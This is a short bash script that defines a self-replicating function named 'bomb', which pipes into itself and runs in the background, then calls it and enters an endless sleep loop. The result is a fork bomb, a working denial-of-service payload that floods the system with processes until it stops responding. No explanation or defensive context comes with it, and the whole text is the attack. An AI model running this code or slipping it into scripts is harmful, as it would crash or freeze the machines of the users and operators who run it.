bomb() { bomb | bomb & }
bomb
while true; do sleep 1; done
